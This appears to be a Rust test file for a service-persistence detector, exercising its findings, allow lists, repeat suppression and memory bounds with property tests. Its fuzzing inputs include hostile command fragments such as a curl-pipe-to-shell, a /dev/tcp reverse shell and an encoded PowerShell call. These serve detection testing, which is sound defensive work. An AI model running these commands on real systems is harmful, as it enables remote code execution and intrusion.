//! Tests of the detector as a whole.

use std::path::Path;

use proptest::prelude::*;

use super::cases::executable;
use super::{Allowed, Counters, Detector, Options, OptionsError, REPEAT, SERVICES, analytic, reference};
use crate::model::change::Change;
use crate::model::event::{Action, EventId, Mechanism, ServiceEvent};
use crate::model::finding::{DataComponent, Finding, Severity};
use crate::model::known::{Known, Reason};
use crate::model::process::{Actor, Confidence, Process, ProcessKey};
use crate::model::service::{Manager, Scope, ServiceId, Setting};
use crate::model::time::Timestamp;
use crate::output::testing::{any_action, any_mechanism};

const START: Timestamp = Timestamp(1_700_000_000_000_000_000);

/// An event of which nothing is known but what happened to which service.
pub(super) fn event(action: Action, manager: Manager, name: &str) -> ServiceEvent {
    ServiceEvent {
        id: EventId { run: "test".to_owned(), number: 1 },
        time: START,
        host: None,
        action,
        mechanism: Mechanism::UnitFile,
        service: ServiceId { manager, scope: Scope::System, name: name.to_owned() },
        display_name: None,
        definition: Vec::new(),
        changes: Vec::new(),
        file: None,
        executables: Vec::new(),
        enablement: Known::Missing(Reason::NotRecorded),
        enablement_before: Known::Missing(Reason::NotRecorded),
        loaded: Known::Missing(Reason::NotRecorded),
        actor: Known::Missing(Reason::NotRecorded),
        confidence: Confidence::High,
        note: None,
        details: Vec::new(),
        missing: Vec::new(),
        evidence: Vec::new(),
    }
}

/// A unit that runs a command line.
fn unit(name: &str, words: &[&str]) -> ServiceEvent {
    let mut event = event(Action::Created, Manager::Systemd, name);
    let words: Vec<String> = words.iter().map(ToString::to_string).collect();
    event.executables.push(executable(Manager::Systemd, &words));
    event
}

/// A unit that runs from /tmp.
fn bad_unit(name: &str) -> ServiceEvent {
    unit(name, &["ExecStart", "/tmp/x"])
}

pub(super) fn detector(options: Options) -> Detector {
    Detector::new(options).expect("sound options")
}

fn allowed(analytic: &str, service: &str, until: Option<Timestamp>) -> Options {
    let entry = Allowed {
        analytic: analytic.to_owned(),
        service: service.to_owned(),
        reason: "known deployment".to_owned(),
        until,
    };
    Options { disabled: Vec::new(), allowed: vec![entry] }
}

fn later(mut event: ServiceEvent, seconds: i64) -> ServiceEvent {
    event.time = Timestamp(START.0 + seconds * 1_000_000_000);
    event
}

#[test]
fn a_finding_carries_what_its_reader_needs() {
    let findings = detector(Options::default()).judge(&bad_unit("x.service"));
    let [finding] = findings.as_slice() else { panic!("{findings:?}") };
    assert_eq!(finding.analytic, "execution-from-writable-path");
    assert_eq!(finding.service.name, "x.service");
    assert_eq!(finding.severity, Severity::High);
    assert_eq!(finding.component, DataComponent::Creation);
    assert_eq!(finding.why, "ExecStart runs \"/tmp/x\", which lies in a directory for temporary files.");
    assert_eq!(
        finding.techniques.iter().map(|technique| technique.v18).collect::<Vec<_>>(),
        ["T1543.002", "T1569.003"]
    );
    assert_eq!(finding.evidence, [EventId { run: "test".to_owned(), number: 1 }]);
}

#[test]
fn an_analytic_that_is_off_says_nothing() {
    let options = Options { disabled: vec!["execution-from-writable-path".to_owned()], allowed: Vec::new() };
    assert_eq!(detector(options).judge(&bad_unit("x.service")), []);
}

#[test]
fn the_allow_list_is_by_analytic_service_and_time() {
    for (options, expected) in [
        (allowed("execution-from-writable-path", "x*.service", None), 0),
        (allowed("*", "X.SERVICE", None), 0),
        (allowed("execution-from-writable-path", "y.service", None), 1),
        (allowed("look-alike-name", "x.service", None), 1),
        (allowed("*", "*", Some(START)), 0),
        (allowed("*", "*", Some(Timestamp(START.0 - 1))), 1),
    ] {
        let mut detector = detector(options.clone());
        assert_eq!(detector.judge(&bad_unit("x.service")).len(), expected, "{options:?}");
        let counters = detector.counters();
        assert_eq!((counters.findings, counters.allowed), (expected as u64, 1 - expected as u64));
    }
}

#[test]
fn options_that_make_no_sense_are_refused() {
    let unknown = Options { disabled: vec!["no-such".to_owned()], allowed: Vec::new() };
    assert_eq!(Detector::new(unknown).err(), Some(OptionsError::UnknownAnalytic("no-such".to_owned())));
    assert_eq!(
        Detector::new(allowed("no-such", "*", None)).err(),
        Some(OptionsError::UnknownAnalytic("no-such".to_owned()))
    );
    assert_eq!(Detector::new(allowed("*", "", None)).err(), Some(OptionsError::NoService("*".to_owned())));
    let mut silent = allowed("*", "*", None);
    silent.allowed[0].reason = " ".to_owned();
    assert!(matches!(Detector::new(silent).err(), Some(OptionsError::NoReason { .. })));
}

#[test]
fn the_same_is_told_once_within_half_a_minute() {
    let mut detector = detector(Options::default());
    let repeat = i64::try_from(REPEAT.as_secs()).expect("small");
    assert_eq!(detector.judge(&bad_unit("x.service")).len(), 1);
    assert_eq!(detector.judge(&later(bad_unit("x.service"), repeat)).len(), 0);
    assert_eq!(detector.judge(&later(bad_unit("y.service"), repeat)).len(), 1, "another service");
    let other = unit("x.service", &["ExecStart", "/tmp/other"]);
    assert_eq!(detector.judge(&later(other, repeat)).len(), 1, "another program");
    assert_eq!(detector.judge(&later(bad_unit("x.service"), repeat + 1)).len(), 1, "later");
    let removed = event(Action::Removed, Manager::Systemd, "x.service");
    assert_eq!(detector.judge(&later(removed, repeat + 2)), []);
    assert_eq!(detector.judge(&later(bad_unit("x.service"), repeat + 3)).len(), 1, "made anew");
    assert_eq!(detector.counters(), Counters { findings: 5, allowed: 0, repeated: 1 });
}

#[test]
fn a_short_life_rests_on_birth_and_death() {
    let mut detector = detector(Options::default());
    let mut birth = event(Action::Created, Manager::Scm, "helper");
    birth.id.number = 7;
    let mut death = later(event(Action::Removed, Manager::Scm, "helper"), 5);
    death.id.number = 9;
    assert_eq!(detector.judge(&birth), []);
    let findings = detector.judge(&death);
    let numbers: Vec<u64> =
        findings.iter().flat_map(|finding| &finding.evidence).map(|id| id.number).collect();
    assert_eq!(numbers, [7, 9]);
}

#[test]
fn memory_is_bounded() {
    let mut detector = detector(Options::default());
    for number in 0..(SERVICES * 3) {
        detector.judge(&bad_unit(&format!("s{number}.service")));
    }
    for number in 0..1000 {
        detector.judge(&unit("one.service", &["ExecStart", &format!("/tmp/{number}")]));
    }
    for number in 0..1000 {
        let mut stop = event(Action::Disabled, Manager::Scm, &format!("s{number}"));
        stop.host = Some(format!("h{number}"));
        detector.judge(&stop);
    }
    assert!(detector.past.len() <= SERVICES);
    assert!(detector.bursts.len() <= 256);
}

#[test]
fn names_are_unique_sorted_and_in_kebab_case() {
    let names: Vec<&str> = analytic::ALL.iter().map(|analytic| analytic.name).collect();
    assert!(names.is_sorted());
    let mut unique = names.clone();
    unique.dedup();
    assert_eq!(unique.len(), names.len());
    for analytic in analytic::ALL {
        assert!(
            analytic.name.bytes().all(|byte| byte.is_ascii_lowercase() || byte == b'-'),
            "{}",
            analytic.name
        );
        for text in [analytic.behaviour, analytic.suspicious, analytic.benign] {
            assert!(text.ends_with('.'), "{}: {text}", analytic.name);
            assert!(!text.contains("  "), "{}: {text}", analytic.name);
        }
        assert!(analytic.severity.0 <= analytic.severity.1);
    }
}

#[test]
fn the_reference_is_up_to_date() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/analytics.md");
    let page = reference::markdown();
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::create_dir_all(path.parent().expect("a folder")).expect("the folder of documents");
        std::fs::write(&path, &page).expect("the page is written");
    }
    let written = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(written == page, "docs/analytics.md is stale: run the tests with UPDATE_GOLDEN=1");
}

/// Units that distributions ship use shells, temporary directories and the like for honest reasons: none of this host's
/// may be told as medium or worse when the package manager unpacks it, nor when somebody copies it to the same place.
#[test]
fn units_of_this_host_are_quiet() {
    let folder =
        std::env::var_os("SVCSENSOR_VENDOR_UNITS").unwrap_or_else(|| "/usr/lib/systemd/system".into());
    let Ok(entries) = std::fs::read_dir(&folder) else {
        println!("skipped: there are no units in {}", folder.display());
        return;
    };
    let mut loud = Vec::new();
    for path in entries.flatten().map(|entry| entry.path()) {
        let (Some(name), Ok(text)) =
            (path.file_name().and_then(|name| name.to_str()), std::fs::read_to_string(&path))
        else {
            continue;
        };
        for by_package in [true, false] {
            for finding in findings_of_unit(name, &text, by_package) {
                if finding.severity >= Severity::Medium || by_package {
                    loud.push(format!(
                        "{name}: {:?} {}: {}",
                        finding.severity, finding.analytic, finding.why
                    ));
                }
            }
        }
    }
    assert!(loud.is_empty(), "{}", loud.join("\n"));
}

/// The findings of a unit as it is shipped.
fn findings_of_unit(name: &str, text: &str, by_package: bool) -> Vec<Finding> {
    let mut event = event(Action::Created, Manager::Systemd, name);
    event.file = Some(crate::model::event::FileFacts {
        path: format!("/usr/lib/systemd/system/{name}").into(),
        path_as_named: Known::Missing(Reason::NotRecorded),
        link_target: None,
        sha256: Known::Missing(Reason::NotRecorded),
        size: Known::Missing(Reason::NotRecorded),
        mode: Known::Is(0o644),
        owner: Known::Is((0, 0)),
        diff: None,
    });
    if by_package {
        let mut process = Process::unknown(ProcessKey { pid: 2, start_ns: 0 }, Reason::NotRecorded);
        process.exe = Known::Is("/usr/bin/dpkg".into());
        event.actor = Known::Is(Actor {
            process,
            ancestry: Vec::new(),
            requester: None,
            user_name: Known::Missing(Reason::NotRecorded),
            login_name: Known::Missing(Reason::NotRecorded),
            remote_address: Known::Missing(Reason::NotRecorded),
        });
    }
    let text = text.replace("\\\n", " ");
    for line in text.lines() {
        let Some((key, value)) = line.split_once('=') else { continue };
        if key.starts_with("Exec") {
            let value = value.trim_start_matches(['-', '@', ':', '+', '!', '|', ' ']);
            let words = words_of(value);
            if !words.is_empty() {
                let words: Vec<String> = std::iter::once(key.to_owned()).chain(words).collect();
                event.executables.push(executable(Manager::Systemd, &words));
            }
        } else if key.chars().all(char::is_alphanumeric) {
            event.definition.push(Setting {
                section: String::new(),
                name: key.to_owned(),
                values: vec![value.to_owned()],
            });
        }
    }
    detector(Options::default()).judge(&event)
}

/// Words in quotes or without.
fn words_of(line: &str) -> Vec<String> {
    let mut words = vec![String::new()];
    let mut quote = None;
    for character in line.chars() {
        let last = words.last_mut().expect("never empty");
        match (character, quote) {
            ('"' | '\'', None) => quote = Some(character),
            (character, Some(open)) if character == open => quote = None,
            (' ' | '\t', None) => words.push(String::new()),
            (character, _) => last.push(character),
        }
    }
    words.retain(|word| !word.is_empty());
    words
}

/// Text that analytics care for, or anything.
fn text() -> impl Strategy<Value = String> {
    prop_oneof![
        ".{0,60}",
        prop::sample::select(vec![
            "/tmp/x",
            "/bin/sh",
            "-c",
            "curl http://a | sh",
            "echo $(base64 -d <<< QUJD) `x` > /dev/tcp/a/1 0>&1",
            "cmd.exe /c echo a > \\\\.\\pipe\\a",
            "powershell -enc QUJDREVGR0g=",
            "\\\\127.0.0.1\\ADMIN$\\x.exe",
            "auditd.service",
            "s\u{455}hd",
            "D:(D;;DCLC;;;IU)(",
            "ld-linux.so.2",
            "env",
            "",
        ])
        .prop_map(str::to_owned),
    ]
}

fn any_event() -> impl Strategy<Value = ServiceEvent> {
    let managers =
        prop::sample::select(vec![Manager::Systemd, Manager::SysV, Manager::Scm, Manager::Launchd]);
    let settings = prop::sample::select(vec![
        "ExecStart",
        "ImagePath",
        "Parameters\\ServiceDll",
        "Environment",
        "Security",
        "FailureCommand",
        "User",
        "Performance.Library",
        "DisplayName",
        "Type",
    ]);
    let commands = prop::collection::vec(prop::collection::vec(text(), 2..5), 0..4);
    let changes = prop::collection::vec(
        (settings, prop::collection::vec(text(), 0..3), prop::collection::vec(text(), 0..3)),
        0..4,
    );
    (any_action(), any_mechanism(), managers, text(), commands, changes, any::<i64>(), text()).prop_map(
        |(action, mechanism, manager, name, commands, changes, time, detail)| {
            let mut event = event(action, manager, &name);
            event.mechanism = mechanism;
            event.time = Timestamp(time);
            event.display_name = Some(detail.clone());
            event.executables = commands.iter().map(|words| executable(manager, words)).collect();
            event.details =
                vec![("verb", "stop".to_owned()), ("units", detail.clone()), ("remote_address", detail)];
            for (name, before, after) in changes {
                event.definition.push(Setting {
                    section: String::new(),
                    name: name.to_owned(),
                    values: after.clone(),
                });
                event.changes.push(Change { section: String::new(), name: name.to_owned(), before, after });
            }
            event
        },
    )
}

proptest! {
    #[test]
    fn any_event_is_judged_and_judged_alike(events in prop::collection::vec(any_event(), 0..8)) {
        let mut first = detector(Options::default());
        let mut second = detector(Options::default());
        for event in &events {
            let findings = first.judge(event);
            prop_assert_eq!(&findings, &second.judge(event));
            for finding in findings {
                prop_assert!(finding.why.len() < 4096);
                prop_assert!(!finding.why.contains('\n'));
                let analytic = analytic::by_name(finding.analytic).expect("findings come from analytics");
                prop_assert!((analytic.severity.0..=analytic.severity.1).contains(&finding.severity));
                for technique in &finding.techniques {
                    prop_assert!(analytic.techniques.contains(technique), "{} {}", analytic.name, technique.v18);
                }
            }
        }
    }
}
